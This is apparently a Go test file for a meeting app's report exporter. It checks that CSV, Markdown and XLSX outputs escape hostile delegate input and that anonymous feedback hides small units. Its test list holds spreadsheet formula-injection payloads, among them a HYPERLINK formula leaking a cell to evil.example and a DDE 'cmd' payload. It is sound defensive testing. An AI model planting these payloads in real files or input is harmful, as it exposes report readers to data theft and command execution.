package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"sort"
	"strings"
	"testing"

	"github.com/convene/convene"
	"github.com/convene/convene/report"
	"github.com/xuri/excelize/v2"
)

// hostile are cells a delegate could type to attack whoever opens the report.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")`,
	"=1+1",
	"@SUM(A1)",
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"\t=1+1",
	"\r=1+1",
}

// hostileData is testData with hostile text in a name, a unit, a reason and
// an answer of each of the first invitees.
func hostileData() *report.Data {
	d := testData(false)
	for i, h := range hostile {
		inv := d.Invitees[i]
		inv.Person.FullName = h
		inv.Reason = h
		if i == 0 {
			inv.Person.Unit = h
		}
	}
	d.Feedback[0].Answers["strengths"] = hostile[0]
	d.Feedback[1].Answers["strengths"] = hostile[1]
	d.Feedback[2].Answers["strengths"] = hostile[2]
	d.Feedback[0].Answers["weaknesses"] = "# Báo cáo giả\n\n| a | b |\n[bấm](http://evil.example) <b>**x**</b>"
	return d
}

func TestHostileCSV(t *testing.T) {
	b := render(t, hostileData(), "csv")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for r, row := range rows {
		for c, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d col %s: %q would run as a formula", r, rows[0][c], cell)
			}
		}
	}
	for i, h := range hostile {
		row := rows[i+1]
		if row[col["full_name"]] != "'"+h || row[col["reason"]] != "'"+h {
			t.Errorf("hostile %q became name %q, reason %q (want the text after one quote)", h, row[col["full_name"]], row[col["reason"]])
		}
	}
	if rows[1][col["unit"]] != "'"+hostile[0] || rows[1][col["feedback_strengths"]] != "'"+hostile[0] {
		t.Errorf("unit %q, answer %q", rows[1][col["unit"]], rows[1][col["feedback_strengths"]])
	}
	if got := rows[1][col["phone"]]; got != "0912 345 600" {
		t.Errorf("phone cell %q, want the national form 0912 345 600", got)
	}
}

func TestHostileMarkdown(t *testing.T) {
	headings := func(md string) []string {
		var out []string
		for _, line := range strings.Split(md, "\n") {
			if strings.HasPrefix(strings.TrimLeft(line, " -*+>0123456789.)"), "#") || strings.HasPrefix(line, "|") ||
				strings.HasPrefix(line, "<") || strings.HasPrefix(line, "[") || strings.HasPrefix(line, ">") {
				out = append(out, line)
			}
		}
		return out
	}
	clean := string(render(t, testData(false), "md"))
	d := hostileData()
	d.Meeting.Title = "x**\n# Tiêu đề giả"
	d.Invitees[3].Reason = "Ốm\n## Kết luận: đồng chí A vi phạm\n- mục giả"
	md := string(render(t, d, "md"))
	if got, want := headings(md), headings(clean); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("hostile text forged structure:\n%s\nwant only:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, want := range []string{
		`**x\*\* \# Tiêu đề giả**`,
		`: Ốm \#\# Kết luận: đồng chí A vi phạm - mục giả`,
		`- \# Báo cáo giả \| a \| b \| \[bấm\](http://evil.example) \<b\>\*\*x\*\*\</b\> — _`,
	} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown lacks the escaped line %q", want)
		}
	}
}

func TestHostileXLSX(t *testing.T) {
	for _, anonymous := range []bool{false, true} {
		d := hostileData()
		d.Meeting.Feedback.Anonymous = anonymous
		if anonymous {
			for _, f := range d.Feedback {
				f.PersonID = 0
			}
		}
		f, err := excelize.OpenReader(bytes.NewReader(render(t, d, "xlsx")))
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]bool{}
		for _, h := range hostile {
			want[h] = true
		}
		found := map[string]int{}
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c := range row {
					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
						t.Errorf("%s!%s has formula %q", sheet, cell, formula)
					}
					v, _ := f.GetCellValue(sheet, cell)
					if typ, _ := f.GetCellType(sheet, cell); want[v] && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s = %q is not stored as text (type %v)", sheet, cell, v, typ)
					}
					found[v]++
				}
			}
		}
		for _, h := range hostile {
			if found[h] == 0 {
				t.Errorf("anonymous=%v: literal %q is missing from the workbook", anonymous, h)
			}
		}
		f.Close()
	}
}

// anonymousData is an anonymous meeting where unit "Chi bộ 01" has three
// responders and "Trường Lý Tự Trọng" two.
func anonymousData() *report.Data {
	d := testData(true)
	d.Feedback, d.Responders = nil, nil
	for _, pid := range []int64{1, 2, 9, 5, 11} { // Chi bộ 01: 1, 2, 9; Trường Lý Tự Trọng: 5, 11
		d.Responders = append(d.Responders, pid)
		d.Feedback = append(d.Feedback, &convene.Feedback{MeetingID: 1, Rating: 4,
			Answers: map[string]string{"strengths": "ý kiến của người số " + string(rune('A'+pid)), "rating": "4"}})
	}
	return d
}

func TestAnonymousResponderThreshold(t *testing.T) {
	d := anonymousData()
	s := report.Summarize(d)
	byName := map[string]report.Group{}
	for _, g := range s.ByUnit {
		byName[g.Name] = g
	}
	if g := byName["Chi bộ 01"]; g.Responses != 3 || g.ResponsesHidden {
		t.Errorf("unit with 3 responders: %+v", g)
	}
	for _, name := range []string{"Trường Lý Tự Trọng", "Thành ủy", "Trường Trung cấp Quận 12"} {
		if g := byName[name]; g.Responses != 0 || g.ResponseRate != 0 || !g.ResponsesHidden || g.Invited == 0 {
			t.Errorf("unit %s with fewer than 3 responders shows them: %+v", name, g)
		}
	}
	if s.OtherUnits == nil || s.OtherUnits.Responses != 2 || s.Responses != 5 {
		t.Fatalf("other units %+v, total %d", s.OtherUnits, s.Responses)
	}
	for _, g := range s.ByCategory {
		if g.Responses > 0 && g.Responses < report.MinResponders {
			t.Errorf("category %s shows %d responders", g.Name, g.Responses)
		}
	}
	t.Run("NotAnonymousShowsAll", func(t *testing.T) {
		d := anonymousData()
		d.Meeting.Feedback.Anonymous = false
		s := report.Summarize(d)
		if s.OtherUnits != nil {
			t.Fatal("a named meeting merges units")
		}
		for _, g := range s.ByUnit {
			if g.Name == "Trường Lý Tự Trọng" && g.Responses != 2 {
				t.Fatalf("%+v", g)
			}
		}
	})
	t.Run("Markdown", func(t *testing.T) {
		md := string(render(t, d, "md"))
		rate := md[strings.LastIndex(md, "## Tỷ lệ góp ý"):]
		if !strings.Contains(rate, "- Chi bộ 01: 3 (") || !strings.Contains(rate, "- Các đơn vị khác (mỗi đơn vị dưới 3 người góp ý): 2 (") {
			t.Errorf("response rate section:\n%s", rate)
		}
		for _, name := range []string{"Trường Lý Tự Trọng", "Thành ủy", "Trường Trung cấp Quận 12"} {
			if strings.Contains(rate, name) {
				t.Errorf("response rate names %s", name)
			}
		}
	})
	t.Run("JSON", func(t *testing.T) {
		var out struct {
			Invitees []map[string]any `json:"invitees"`
			Summary  struct {
				ByUnit     []map[string]any `json:"by_unit"`
				OtherUnits map[string]any   `json:"other_units"`
			} `json:"summary"`
		}
		if err := json.Unmarshal(render(t, d, "json"), &out); err != nil {
			t.Fatal(err)
		}
		keys := func(m map[string]any) string {
			var k []string
			for x := range m {
				k = append(k, x)
			}
			sort.Strings(k)
			return strings.Join(k, ",")
		}
		// Responder (An, 1) and non-responder (Long, 8) of one unit look alike.
		if keys(out.Invitees[0]) != keys(out.Invitees[7]) || len(out.Invitees[0]["feedback"].(map[string]any)) != 0 {
			t.Errorf("invitee rows differ: %s / %s", keys(out.Invitees[0]), keys(out.Invitees[7]))
		}
		for _, g := range out.Summary.ByUnit {
			if g["name"] == "Trường Lý Tự Trọng" && (g["feedback_responses"].(float64) != 0 || g["responses_hidden"] != true) {
				t.Errorf("JSON by_unit %v", g)
			}
		}
		if out.Summary.OtherUnits["feedback_responses"].(float64) != 2 {
			t.Errorf("other_units %v", out.Summary.OtherUnits)
		}
	})
	t.Run("XLSX", func(t *testing.T) {
		f, err := excelize.OpenReader(bytes.NewReader(render(t, d, "xlsx")))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, _ := f.GetRows("Tỷ lệ góp ý")
		var names []string
		for _, r := range rows[1:] {
			names = append(names, r[1]+"="+r[4])
		}
		if got := strings.Join(names, "|"); got != "Chi bộ 01=3|Các đơn vị khác (mỗi đơn vị dưới 3 người góp ý)=2" {
			t.Errorf("response rate sheet %s", got)
		}
	})
	t.Run("CSV", func(t *testing.T) {
		rows, _ := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(render(t, d, "csv"), []byte("\uFEFF")))).ReadAll()
		header := strings.Join(rows[0], ",")
		if strings.Contains(header, "feedback") || strings.Contains(header, "respon") {
			t.Errorf("anonymous CSV header %s", header)
		}
	})
}
